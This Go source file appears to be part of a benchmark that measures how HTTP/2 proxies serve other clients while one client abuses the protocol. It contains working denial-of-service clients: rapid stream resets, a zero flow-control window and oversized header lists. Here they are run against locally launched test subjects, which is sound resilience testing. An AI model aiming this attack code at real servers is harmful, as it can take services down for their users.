//go:build linux

package main

import (
	"bufio"
	"bytes"
	"errors"
	"fmt"
	"io"
	"net"
	"os/exec"
	"slices"
	"strconv"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// assault is what one client does over HTTP/2 for as long as it is let.
type assault struct {
	name   string
	does   func(*attacker) error // over one connection; an error = it was closed
	once   bool                  // else over a new connection when one has been closed
	packed bool                  // many frames in a packet
	alone  bool                  // it is done to nobody: what the attacker itself takes from the machine
}

// assaults are in the order in which they leave least to those that follow:
// proxies that open a connection upstream for each stream run out of ports.
func assaults() []assault {
	return []assault{
		{name: "nothing"},
		{name: "100 answers of 64 KiB, window never opened", does: (*attacker).window},
		{name: "fields over the limit", does: (*attacker).fields},
		{name: "20,000 streams, each reset at once", does: (*attacker).resets, once: true},
		{name: "again and again, to nobody", does: (*attacker).resets, packed: true, alone: true},
		{name: "again and again, over new connections", does: (*attacker).resets},
		{name: "again and again, many frames in a packet", does: (*attacker).resets, packed: true},
	}
}

// abuse measures what others feel of a client that abuses HTTP/2.
func (b *bench) abuse() error {
	const rate, length = 1000, 5 * time.Second
	upstreams, _, err := b.startBackends(len(b.peers))
	if err != nil {
		return err
	}
	var subjects []*process
	var got []samples
	for i, p := range b.peers {
		run, err := b.launch(p, i, false, upstreams[i:i+1])
		if err != nil {
			return fmt.Errorf("%s: %w", p.name, err)
		}
		subjects, got = append(subjects, run), append(got, samples{})
	}
	for _, a := range assaults() {
		err := b.inTurn(subjects, func(i int) error { return b.beside(subjects[i], a, got[i], rate, length) })
		if err != nil {
			return fmt.Errorf("%s: %w", a.name, err)
		}
	}
	for i, p := range b.peers {
		table(fmt.Sprintf("%s: %d requests/s of others beside one client that abuses HTTP/2, %d rounds of %v", p.name, rate, b.rounds, length),
			"it does", "p99 of others, ms", "to nothing", "failed", "memory more, MiB", "its connections that were closed")
		for _, a := range assaults() {
			row(a.name, fmt.Sprintf("%.2f", got[i].median(a.name, "p99")), fmt.Sprintf("%.2f", got[i].ratio(a.name, "p99", "nothing")), fmt.Sprintf("%.0f", got[i].median(a.name, "failed")),
				fmt.Sprintf("%.1f", got[i].median(a.name, "more")), fmt.Sprintf("%.0f", got[i].median(a.name, "closed")))
		}
	}
	return nil
}

// beside loads run while an assault lasts.
func (b *bench) beside(run *process, a assault, got samples, rate float64, length time.Duration) error {
	before := run.memory()
	var says bytes.Buffer
	attack := exec.CommandContext(b.ctx, "taskset", "-c", loadCore, "nice", "-n", "19", b.self, "attack", a.name, run.setup.HTTP2, (length + time.Second).String())
	attack.Stdout = &says
	if a.does != nil {
		if err := attack.Start(); err != nil {
			return err
		}
	}
	found, err := b.openLoad(run, rate, length, time.Second, nil)
	if err != nil {
		return err
	}
	got.add(a.name, "more", (run.memory()-before)/1024)
	if a.does != nil {
		if err := attack.Wait(); err != nil {
			return fmt.Errorf("attack: %w", err)
		}
	}
	closed, _ := strconv.ParseFloat(strings.TrimSpace(says.String()), 64)
	got.add(a.name, "closed", closed)
	got.add(a.name, "p99", found.P99)
	got.add(a.name, "failed", float64(found.Failed))
	return nil
}

// attack is the client: its arguments are what it does, to whom, and for how long.
// It prints how many of its connections were closed.
func attack(args []string) error {
	at := slices.IndexFunc(assaults(), func(a assault) bool { return a.name == args[0] })
	length, err := time.ParseDuration(args[2])
	if at < 0 || err != nil {
		return fmt.Errorf("attack %q for %q", args[0], args[2])
	}
	does, addr, until := assaults()[at], args[1], time.Now().Add(length)
	if does.alone {
		if addr, err = nobody(); err != nil {
			return err
		}
	}
	closed := 0
	for time.Now().Before(until) {
		a, err := newAttacker(addr, until, does.packed)
		if err == nil {
			err = does.does(a)
			_ = a.Close()
		}
		if err != nil {
			closed++
		}
		if does.once {
			break
		}
	}
	fmt.Println(closed)
	return nil
}

// nobody is the address of what takes whatever is sent to it.
func nobody() (addr string, err error) {
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		return "", err
	}
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() { _, _ = io.Copy(io.Discard, c) }()
		}
	}()
	return ln.Addr().String(), nil
}

// attacker is one connection of its.
type attacker struct {
	net.Conn
	*http2.Framer
	out   *bufio.Writer // of the framer
	until time.Time
	ended chan struct{} // by the other side
}

func newAttacker(addr string, until time.Time, packed bool) (*attacker, error) {
	c, err := net.Dial("tcp4", addr)
	if err != nil {
		return nil, err
	}
	a := &attacker{Conn: c, out: bufio.NewWriterSize(c, 16<<10), until: until, ended: make(chan struct{})}
	if a.Framer = http2.NewFramer(c, nil); packed {
		a.Framer = http2.NewFramer(a.out, nil)
	}
	go func() {
		defer close(a.ended)
		_, _ = io.Copy(io.Discard, c)
	}()
	_, err = io.WriteString(c, http2.ClientPreface)
	return a, errors.Join(err, a.WriteSettings())
}

// await waits for the other side to close the connection.
func (a *attacker) await() error {
	select {
	case <-a.ended:
		return io.EOF
	case <-time.After(time.Until(a.until)):
		return nil
	}
}

// get opens the n-th stream.
func (a *attacker) get(n int, path string, fields ...hpack.HeaderField) (stream uint32, err error) {
	var head bytes.Buffer
	e := hpack.NewEncoder(&head)
	e.SetMaxDynamicTableSize(0)
	for _, f := range append([]hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "http"}, {Name: ":authority", Value: "localhost"}, {Name: ":path", Value: path}}, fields...) {
		_ = e.WriteField(f) // into memory
	}
	stream = uint32(2*n + 1)
	return stream, a.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: head.Bytes(), EndStream: true, EndHeaders: true})
}

func (a *attacker) resets() error {
	for n := range 20_000 {
		stream, err := a.get(n, "/1k")
		if err == nil {
			err = a.WriteRSTStream(stream, http2.ErrCodeCancel)
		}
		if err != nil || time.Now().After(a.until) {
			return err
		}
	}
	if err := a.out.Flush(); err != nil {
		return err
	}
	return a.await()
}

func (a *attacker) window() error {
	if err := a.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
		return err
	}
	for n := range 100 {
		if _, err := a.get(n, "/64k"); err != nil {
			return err
		}
	}
	return a.await()
}

// fields asks with 12 KiB of fields, of which there are more than are allowed.
func (a *attacker) fields() error {
	var many []hpack.HeaderField
	for i := range 150 {
		many = append(many, hpack.HeaderField{Name: fmt.Sprintf("x-%d", i), Value: strings.Repeat("~", 60)})
	}
	for n := 0; time.Now().Before(a.until); n++ {
		if _, err := a.get(n, "/1k", many...); err != nil {
			return err
		}
		time.Sleep(time.Millisecond)
	}
	return nil
}
